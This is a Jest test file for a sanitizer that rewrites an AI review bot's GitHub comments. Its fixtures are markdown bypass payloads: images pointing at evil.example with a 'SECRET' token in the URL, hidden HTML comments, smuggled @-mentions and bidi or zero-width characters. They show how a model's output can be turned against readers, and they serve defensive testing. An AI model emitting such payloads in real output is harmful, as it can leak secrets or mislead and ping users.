/**
 * One review finding per root cause the old sanitizer had (it patched the
 * model's text where its parser saw markup, so every reading GitHub's
 * cmark-gfm made differently was a bypass). The printer writes a new
 * document instead: whatever the input, the output spells no image, no
 * HTML tag or comment, no reference definition, no footnote and no live
 * mention, and keeps the rmcoc block last. Each case is checked on the
 * printed text itself (nothing can be markup that is not spelled) and with
 * a second parser; the differential test renders the same shapes with
 * cmark-gfm (github-render/corpus.json).
 */
import { describe, expect, it } from '@jest/globals'
import { BOT_MARKER } from '../../src/core/names/marker.js'
import { formatBotComment, parseRmcoc } from '../../src/core/memory/rmcoc.js'
import { sanitizeComment } from '../../src/core/text-safety/sanitize.js'
import { findings, hiddenCharacters, shownText, topLevelRmcocBlocks } from './markdown-oracle.js'

const block = { kind: 'finding', finding: 'Missing check', assessment: 'Why', score: 7 } as const
const post = (text: string): string =>
  sanitizeComment({ text, compose: (t) => formatBotComment(t, block) })

/** The human part of a posted comment (before the rmcoc block). */
const humanPart = (body: string): string => body.slice(0, body.lastIndexOf('```rmcoc'))

/**
 * What a reader could take for markup GitHub acts on, spelled in the
 * printed prose: a tag or comment, an image, a reference definition, an
 * `@` before a login character. Code, autolinks and link destinations (the
 * printer's own) are left out first.
 */
function spelledMarkup(text: string): string[] {
  const prose = text
    .replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '')
    .replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '')
    .replace(/<(?:https?:\/\/[^\s<>]*|[^\s<>@]+@[^\s<>]+)>/g, '')
    .replace(/(?<!\\)\[(?:\\.|[^\]\\])*\]\((?:\\.|[^\s()\\])*\)/g, '')
  return [
    ...(prose.match(/<[A-Za-z!?/]/g) ?? []),
    ...(prose.match(/(?<!\\)!\[/g) ?? []),
    ...(prose.match(/^ {0,3}(?<!\\)\[[^\]\n]*\]:/gm) ?? []),
    ...(prose.match(/(?<![A-Za-z0-9_])@(?!\u2060)[A-Za-z0-9]/g) ?? [])
  ]
}

const CASES: readonly [string, string][] = [
  [
    'an image through a reference definition (inside a footnote)',
    'The status badge ![build][r] is outdated.\n\n[^1]: [r]: https://evil.example/b.png?t=SECRET'
  ],
  [
    'a shortcut reference image',
    'See ![diagram] for the flow.\n\n[diagram]: https://evil.example/d.png'
  ],
  [
    'unbalanced parentheses in an image destination',
    '![before](https://evil.example/a(b.png) and ![after](https://evil.example/a)b.png)'
  ],
  [
    'a lazy continuation tag turning a fence into an HTML block',
    '> quoting the doc\n<span>\n```\n<!-- hidden\n```\nThe rest of the review.'
  ],
  [
    'an unclosed comment after a list item',
    '- The handler runs twice:\n<b>\n```\n<!-- the old code\n```'
  ],
  [
    'an attribute value left open',
    'Use <a title="the handler\n\nThe next paragraph @octocat\n\nand the one after">this</a>.'
  ],
  [
    'a mention in a reference label',
    'As [@octocat] said, the lock is held twice.\n\n[@octocat]: https://github.com/octocat'
  ],
  [
    'a mention in a footnote label with a code span',
    'The retry loop never ends[^`x` @octocat].\n\n[^`x` @octocat]: see the handler'
  ],
  [
    'a mention after a closing </a> inside link text',
    '[see <a href="https://x.example">docs</a> @octocat](https://x.example/y)'
  ],
  ['a mention in an e-mail look-alike', 'Ask a.@octocat or x@example.co@octocat or _@octocat_.'],
  [
    'a mention in an autolink inside an open bracket',
    'The config [see <https://x.example/@octocat> and https://x.example/@hubot'
  ],
  [
    'bidi and zero-width characters as character references',
    'if (isAdmin&#x202E; &#8203;) { ok &#x2066;x&#x2069; &shy;'
  ]
]

describe('root causes of the old bypasses, as a review would write them', () => {
  it.each(CASES)('%s: nothing live, the text still shown', (_name, text) => {
    const body = post(text)
    const human = humanPart(body)
    expect(spelledMarkup(human)).toEqual([])
    expect(findings(body)).toEqual({ mentions: [], images: [], comments: [] })
    expect(hiddenCharacters(body)).toEqual([])
    expect(parseRmcoc(body).ok).toBe(true)
    expect(topLevelRmcocBlocks(body)).toBe(1)
    expect(body.endsWith(`\n\n${BOT_MARKER}`)).toBe(true)
    // The words of the review are still there to read.
    const words = shownText(text).match(/\b[a-z]{5,}\b/g) ?? []
    const shown = shownText(body)
    for (const word of words.filter((w) => !['https', 'example'].includes(w))) {
      expect(shown).toContain(word)
    }
  })

  it('a GitHub-hosted <img> becomes a plain link, not raw markup', () => {
    const body = post(
      'Before: <img width="300" alt="the chart" src="https://github.com/user-attachments/assets/abc">'
    )
    expect(humanPart(body)).toContain('[the chart](https://github.com/user-attachments/assets/abc)')
  })
})
